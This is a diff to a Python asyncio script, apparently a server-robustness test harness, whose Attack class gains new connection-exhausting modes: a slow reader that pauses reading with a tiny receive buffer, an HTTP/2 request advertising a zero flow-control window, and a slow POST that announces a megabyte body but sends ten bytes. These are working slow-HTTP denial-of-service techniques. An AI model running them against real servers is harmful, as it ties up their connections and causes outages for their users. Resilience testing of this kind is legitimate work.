@@ -10,6 +10,7 @@ import asyncio
 import json
 import os
 import resource
+import socket
 import ssl
 import struct
 import sys
@@ -23,7 +24,8 @@ WHOLE = GET + b"\r\n"
 # A header block in static and literal fields only: :method GET, :scheme http, :path, :authority a.
 HEADERS = bytes([0x82, 0x86, 0x04, len(PATH)]) + PATH + bytes([0x01, 1]) + b"a"
 # Kinds that keep as many connections as they are told; the others do much on a few.
-HELD = ("head", "second", "hello", "preface", "idle", "silent")
+STAY_AWAY = ("idle", "silent", "reader", "window", "upload")
+HELD = ("head", "second", "hello", "preface", *STAY_AWAY)
 
 
 class Attack:
@@ -62,7 +64,7 @@ class Attack:
             finally:
                 self.leave(writer)
                 event.set()
-            if self.kind in ("idle", "silent"):
+            if self.kind in STAY_AWAY:
                 # Who was shown the door stays away: what is left open is what is counted.
                 await asyncio.Event().wait()
             await asyncio.sleep(0.05)
@@ -125,6 +127,25 @@ class Attack:
     async def idle(self, reader, writer, event):
         writer.write(WHOLE)
         await reader.readuntil(b"\r\n\r\n")
+        await self.until_closed(reader, writer, event)
+
+    async def reader(self, reader, writer, event):
+        """Asks for much, and reads none of it."""
+        writer.transport.pause_reading()
+        # Set by hand it does not grow, and what is not read stays with the server.
+        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        writer.write(WHOLE)
+        event.set()
+        await asyncio.Event().wait()
+
+    async def window(self, reader, writer, event):
+        """The same over HTTP/2, by an initial window of nothing."""
+        writer.write(PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0)) + frame(1, 0x5, 1, HEADERS))
+        await self.until_closed(reader, writer, event)
+
+    async def upload(self, reader, writer, event):
+        """Announces a body, and sends next to nothing of it."""
+        writer.write(b"POST" + GET[3:] + b"Content-Length: 1000000\r\n\r\n" + b"u" * 10)
         await self.until_closed(reader, writer, event)
 
     async def bomb(self, reader, writer, event):
